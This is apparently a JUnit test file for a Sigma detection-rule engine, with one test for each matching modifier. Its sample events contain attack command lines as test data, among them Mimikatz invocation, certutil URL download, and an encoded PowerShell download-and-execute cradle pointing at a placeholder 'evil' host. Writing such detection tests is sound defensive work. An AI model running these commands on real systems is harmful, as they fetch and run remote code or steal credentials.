package io.detectionhub.sigma.evaluation;

import static io.detectionhub.sigma.evaluation.Sigma.engine;
import static io.detectionhub.sigma.evaluation.Sigma.fires;
import static io.detectionhub.sigma.evaluation.Sigma.rule;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.List;
import java.util.Map;

import org.junit.jupiter.api.Test;

/** One test per modifier (and the chains the corpus uses), each with events that match and events that do not. */
class ModifierTest {

    private static void check(String selection, List<String> matching, List<String> notMatching) {
        EvaluationEngine e = engine(rule(selection));
        assertTrue(e.problems().isEmpty(), () -> "compile problems: " + e.problems());
        for (String m : matching) {
            assertTrue(fires(e, m), () -> selection + " should match " + m);
        }
        for (String n : notMatching) {
            assertFalse(fires(e, n), () -> selection + " should not match " + n);
        }
    }

    private static String b64(String s) {
        return Base64.getEncoder().encodeToString(s.getBytes(StandardCharsets.UTF_8));
    }

    @Test
    void plainValueIsCaseInsensitiveEquality() {
        check("Image: 'C:\\Windows\\System32\\cmd.exe'",
                List.of("{\"Image\":\"c:\\\\windows\\\\system32\\\\CMD.EXE\"}"),
                List.of("{\"Image\":\"C:\\\\Windows\\\\System32\\\\cmd.exe.bak\"}", "{\"Other\":\"x\"}"));
    }

    @Test
    void contains() {
        check("CommandLine|contains: 'invoke-mimikatz'",
                List.of("{\"CommandLine\":\"powershell Invoke-Mimikatz -x\"}"),
                List.of("{\"CommandLine\":\"powershell Invoke-Kerberoast\"}"));
    }

    @Test
    void startswith() {
        check("Image|startswith: 'C:\\Temp\\'",
                List.of("{\"Image\":\"c:\\\\temp\\\\evil.exe\"}"),
                List.of("{\"Image\":\"D:\\\\C:\\\\Temp\\\\evil.exe\"}"));
    }

    @Test
    void endswith() {
        check("Image|endswith: '\\rundll32.exe'",
                List.of("{\"Image\":\"C:\\\\Windows\\\\System32\\\\RUNDLL32.EXE\"}"),
                List.of("{\"Image\":\"C:\\\\Windows\\\\System32\\\\rundll32.exe.mui\"}"));
    }

    @Test
    void wildcardsStarAndQuestionMark() {
        check("Image: 'C:\\Users\\\\*\\AppData\\\\?ocal\\x.exe'",
                List.of("{\"Image\":\"C:\\\\Users\\\\bob\\\\AppData\\\\Local\\\\x.exe\"}"),
                List.of("{\"Image\":\"C:\\\\Users\\\\bob\\\\AppData\\\\LLocal\\\\x.exe\"}"));
    }

    @Test
    void allMakesListAnAnd() {
        check("CommandLine|contains|all:\n    - ' -enc '\n    - 'bypass'",
                List.of("{\"CommandLine\":\"powershell -ep bypass -enc AAAA \"}"),
                List.of("{\"CommandLine\":\"powershell -enc AAAA \"}"));
    }

    @Test
    void existsTrueAndFalse() {
        check("ParentImage|exists: true",
                List.of("{\"ParentImage\":\"x\"}", "{\"ParentImage\":null}", "{\"ParentImage\":\"\"}"),
                List.of("{\"Image\":\"x\"}"));
        check("ParentImage|exists: false",
                List.of("{\"Image\":\"x\"}"),
                List.of("{\"ParentImage\":\"\"}"));
    }

    @Test
    void casedIsCaseSensitive() {
        check("CommandLine|cased|contains: 'FromBase64String'",
                List.of("{\"CommandLine\":\"[Convert]::FromBase64String('x')\"}"),
                List.of("{\"CommandLine\":\"[convert]::frombase64string('x')\"}"));
    }

    @Test
    void neqNegatesTheItem() {
        check("User|neq: 'SYSTEM'",
                List.of("{\"User\":\"alice\"}", "{\"Other\":1}"),
                List.of("{\"User\":\"system\"}"));
        check("EventID|neq:\n    - 1\n    - 3",
                List.of("{\"EventID\":5}"),
                List.of("{\"EventID\":1}", "{\"EventID\":\"3\"}"));
    }

    @Test
    void windashMatchesEveryDashVariant() {
        check("CommandLine|windash|contains: ' -exec bypass'",
                List.of("{\"CommandLine\":\"powershell -exec bypass\"}",
                        "{\"CommandLine\":\"powershell /exec bypass\"}",
                        "{\"CommandLine\":\"powershell \u2013exec bypass\"}",
                        "{\"CommandLine\":\"powershell \u2014exec bypass\"}",
                        "{\"CommandLine\":\"powershell \u2015exec bypass\"}"),
                List.of("{\"CommandLine\":\"powershell +exec bypass\"}",
                        "{\"CommandLine\":\"powershell exec bypass\"}"));
    }

    @Test
    void windashLeavesDashesInsideWordsAlone() {
        check("CommandLine|windash|contains: ' -foo-bar'",
                List.of("{\"CommandLine\":\"x /foo-bar\"}"),
                List.of("{\"CommandLine\":\"x /foo/bar\"}"));
    }

    @Test
    void containsWindashChain() {
        check("CommandLine|contains|windash: ' -urlcache '",
                List.of("{\"CommandLine\":\"certutil /urlcache -f http://x\"}"),
                List.of("{\"CommandLine\":\"certutil urlcache\"}"));
    }

    @Test
    void regexIsASearchAndCaseSensitive() {
        check("CommandLine|re: 'net[0-9]? user'",
                List.of("{\"CommandLine\":\"cmd /c net1 user admin\"}"),
                List.of("{\"CommandLine\":\"cmd /c NET1 USER admin\"}"));
    }

    @Test
    void regexFlags() {
        check("CommandLine|re|i: 'NET USER'", List.of("{\"CommandLine\":\"net user\"}"),
                List.of("{\"CommandLine\":\"netuser\"}"));
        check("CommandLine|re|m: '^second$'", List.of("{\"CommandLine\":\"first\\nsecond\\nthird\"}"),
                List.of("{\"CommandLine\":\"first second\"}"));
        check("CommandLine|re|s: 'a.b'", List.of("{\"CommandLine\":\"a\\nb\"}"),
                List.of("{\"CommandLine\":\"ab\"}"));
        check("CommandLine|re: 'a.b'", List.of("{\"CommandLine\":\"axb\"}"),
                List.of("{\"CommandLine\":\"a\\nb\"}"));
    }

    @Test
    void regexMinimumLengthCountsCharactersOfOneLine() {
        check("CommandLine|re: '.{10,}'", List.of("{\"CommandLine\":\"0123456789\"}",
                        "{\"CommandLine\":\"ab\\n0123456789\"}"),
                List.of("{\"CommandLine\":\"012345678\"}", "{\"CommandLine\":\"01234\\n56789\"}"));
        check("CommandLine|re|s: '.{10,}'", List.of("{\"CommandLine\":\"01234\\n5678\"}"),
                List.of("{\"CommandLine\":\"01234\\n567\"}"));
    }

    @Test
    void base64() {
        check("CommandLine|base64: 'cmd.exe'",
                List.of("{\"CommandLine\":\"" + b64("cmd.exe") + "\"}"),
                List.of("{\"CommandLine\":\"" + b64("xcmd.exe") + "\"}"));
        check("CommandLine|base64|contains: 'cmd.exe'",
                List.of("{\"CommandLine\":\"echo " + b64("cmd.exe") + " | decode\"}"),
                List.of("{\"CommandLine\":\"echo cmd.exe\"}"));
    }

    @Test
    void base64offsetFindsTheValueAtEveryAlignment() {
        String needle = "http://evil";
        EvaluationEngine e = engine(rule("CommandLine|base64offset|contains: '" + needle + "'"));
        for (String prefix : List.of("", "a", "ab", "abc", "IEX (New-Object Net.WebClient).DownloadString('")) {
            String encoded = b64(prefix + needle + "/payload')");
            assertTrue(fires(e, "{\"CommandLine\":\"powershell -enc " + encoded + "\"}"), prefix);
        }
        assertFalse(fires(e, "{\"CommandLine\":\"powershell -enc " + b64("http://good/evil") + "\"}"));
    }

    @Test
    void utf16EncodingsThenBase64() {
        String value = "ping";
        String le = Base64.getEncoder().encodeToString(value.getBytes(StandardCharsets.UTF_16LE));
        String be = Base64.getEncoder().encodeToString(value.getBytes(StandardCharsets.UTF_16BE));
        byte[] bom = new byte[] {(byte) 0xFF, (byte) 0xFE, 'p', 0, 'i', 0, 'n', 0, 'g', 0};
        String withBom = Base64.getEncoder().encodeToString(bom);
        check("CommandLine|utf16le|base64: 'ping'", List.of("{\"CommandLine\":\"" + le + "\"}"),
                List.of("{\"CommandLine\":\"" + be + "\"}"));
        check("CommandLine|wide|base64: 'ping'", List.of("{\"CommandLine\":\"" + le + "\"}"),
                List.of("{\"CommandLine\":\"" + b64("ping") + "\"}"));
        check("CommandLine|utf16be|base64: 'ping'", List.of("{\"CommandLine\":\"" + be + "\"}"),
                List.of("{\"CommandLine\":\"" + le + "\"}"));
        check("CommandLine|utf16|base64: 'ping'", List.of("{\"CommandLine\":\"" + withBom + "\"}"),
                List.of("{\"CommandLine\":\"" + le + "\"}"));
    }

    /**
     * Without base64, a utf16 encoding is matched as such: each byte of the encoded value is one character, so the
     * value matches text that holds those bytes (as pySigma's query for the same rule does), e.g. JSON
     * {@code "c\u0000m\u0000d\u0000"}; case-insensitive like any value unless {@code cased}.
     */
    @Test
    void utf16EncodingsWithoutBase64MatchTheEncodedBytes() {
        String le = "x c\\u0000m\\u0000d\\u0000 y";
        String upperLe = "C\\u0000M\\u0000D\\u0000";
        String be = "\\u0000c\\u0000m\\u0000d";
        check("Data|wide|contains: 'cmd'", List.of("{\"Data\":\"" + le + "\"}", "{\"Data\":\"" + upperLe + "\"}"),
                List.of("{\"Data\":\"cmd\"}", "{\"Data\":\"" + be + "\"}", "{\"Other\":\"" + le + "\"}"));
        check("Data|utf16le|startswith: 'cmd'", List.of("{\"Data\":\"" + upperLe + " y\"}"),
                List.of("{\"Data\":\"" + le + "\"}"));
        check("Data|utf16be|contains: 'cmd'", List.of("{\"Data\":\"" + be + "\"}"),
                List.of("{\"Data\":\"" + le + "\"}"));
        // utf16 begins with the byte order mark FF FE
        check("Data|utf16|endswith: 'cmd'", List.of("{\"Data\":\"\u00ff\u00fec\\u0000m\\u0000d\\u0000\"}"),
                List.of("{\"Data\":\"" + upperLe + "\"}"));
        check("Data|wide|cased|contains: 'cmd'", List.of("{\"Data\":\"" + le + "\"}"),
                List.of("{\"Data\":\"" + upperLe + "\"}"));
        // wildcards stay wildcards
        check("Data|wide: 'c*d'", List.of("{\"Data\":\"c\\u0000m\\u0000d\\u0000\"}",
                "{\"Data\":\"c\\u0000d\\u0000\"}"), List.of("{\"Data\":\"c\\u0000m\\u0000d\"}"));
        check("Data|wide|contains: '\u00e9'", List.of("{\"Data\":\"\u00e9\\u0000\"}"),
                List.of("{\"Data\":\"\u00e9\"}"));
    }

    @Test
    void wideBase64offsetContainsChain() {
        String script = "Write-Host hello; Invoke-Expression $payload";
        String encoded = Base64.getEncoder().encodeToString(script.getBytes(StandardCharsets.UTF_16LE));
        check("CommandLine|wide|base64offset|contains: 'Invoke-Expression'",
                List.of("{\"CommandLine\":\"powershell.exe -EncodedCommand " + encoded + "\"}"),
                List.of("{\"CommandLine\":\"powershell.exe -EncodedCommand " + b64(script) + "\"}"));
    }

    @Test
    void numericComparisons() {
        check("Size|lt: 100", List.of("{\"Size\":99}", "{\"Size\":\"42\"}"),
                List.of("{\"Size\":100}", "{\"Size\":\"abc\"}"));
        check("Size|lte: 100", List.of("{\"Size\":100}"), List.of("{\"Size\":101}"));
        check("Size|gt: 100", List.of("{\"Size\":\"1000\"}"), List.of("{\"Size\":100}"));
        check("Size|gte: 100", List.of("{\"Size\":100.0}"), List.of("{\"Size\":99.5}"));
    }

    @Test
    void timeParts() {
        String ts = "{\"UtcTime\":\"2024-03-05 23:41:07.123\"}";
        check("UtcTime|minute: 41", List.of(ts), List.of("{\"UtcTime\":\"2024-03-05 23:40:07.123\"}"));
        check("UtcTime|hour: 23", List.of(ts), List.of("{\"UtcTime\":\"2024-03-05 22:41:07\"}"));
        check("UtcTime|day: 5", List.of(ts), List.of("{\"UtcTime\":\"2024-03-06T23:41:07Z\"}"));
        check("UtcTime|week: 10", List.of(ts), List.of("{\"UtcTime\":\"2024-03-12T23:41:07Z\"}"));
        check("UtcTime|month: 3", List.of(ts), List.of("{\"UtcTime\":\"2024-04-05T23:41:07Z\"}"));
        check("UtcTime|year: 2024", List.of(ts), List.of("{\"UtcTime\":\"2023-03-05T23:41:07Z\"}",
                "{\"UtcTime\":\"not a date\"}"));
    }

    @Test
    void cidrIpv4AndIpv6() {
        check("DestinationIp|cidr: '10.0.0.0/8'", List.of("{\"DestinationIp\":\"10.200.3.4\"}"),
                List.of("{\"DestinationIp\":\"11.0.0.1\"}", "{\"DestinationIp\":\"fe80::1\"}",
                        "{\"DestinationIp\":\"not-an-ip\"}"));
        check("DestinationIp|cidr: '192.168.1.128/25'", List.of("{\"DestinationIp\":\"192.168.1.200\"}"),
                List.of("{\"DestinationIp\":\"192.168.1.127\"}"));
        check("DestinationIp|cidr: 'fe80::/10'", List.of("{\"DestinationIp\":\"FE80::1ff:fe23:4567:890a\"}",
                "{\"DestinationIp\":\"febf::1\"}"), List.of("{\"DestinationIp\":\"fec0::1\"}",
                "{\"DestinationIp\":\"10.0.0.1\"}"));
        check("DestinationIp|cidr: '::ffff:0:0/96'", List.of("{\"DestinationIp\":\"::ffff:10.1.2.3\"}"),
                List.of("{\"DestinationIp\":\"::1\"}"));
    }

    @Test
    void fieldref() {
        check("TargetUserName|fieldref: SubjectUserName",
                List.of("{\"TargetUserName\":\"Bob\",\"SubjectUserName\":\"bob\"}"),
                List.of("{\"TargetUserName\":\"Bob\",\"SubjectUserName\":\"alice\"}", "{\"TargetUserName\":\"Bob\"}"));
        check("Image|fieldref|endswith: OriginalFileName",
                List.of("{\"Image\":\"C:\\\\x\\\\cmd.exe\",\"OriginalFileName\":\"Cmd.Exe\"}"),
                List.of("{\"Image\":\"C:\\\\x\\\\cmd.exe\",\"OriginalFileName\":\"powershell.exe\"}"));
        check("TargetUserName|fieldref|neq: SubjectUserName",
                List.of("{\"TargetUserName\":\"Bob\",\"SubjectUserName\":\"alice\"}"),
                List.of("{\"TargetUserName\":\"Bob\",\"SubjectUserName\":\"bob\"}"));
    }

    @Test
    void expandUsesPlaceholderValues() {
        String yaml = rule("ComputerName|expand: '%DomainControllers%'");
        EvaluationEngine e = engine(yaml, EvaluationOptions.DEFAULT.withPlaceholders(
                Map.of("DomainControllers", List.of("DC01", "DC0?.corp.local"))));
        assertTrue(e.problems().isEmpty(), () -> e.problems().toString());
        assertTrue(fires(e, "{\"ComputerName\":\"dc01\"}"));
        assertTrue(fires(e, "{\"ComputerName\":\"DC02.corp.local\"}"));
        assertFalse(fires(e, "{\"ComputerName\":\"WS01\"}"));
    }

    @Test
    void expandWithoutValuesIsReportedNotMatched() {
        EvaluationEngine e = engine(rule("ComputerName|expand: '%DomainControllers%'"));
        assertEquals(0, e.rulesEvaluated());
        assertEquals(1, e.problems().size());
        assertTrue(e.problems().get(0).message().contains("%DomainControllers%"), e.problems().toString());
        EvaluationResult r = Sigma.run(e, "{\"ComputerName\":\"anything\"}");
        assertTrue(r.matches().isEmpty());
        assertFalse(r.problems().isEmpty());
    }
}
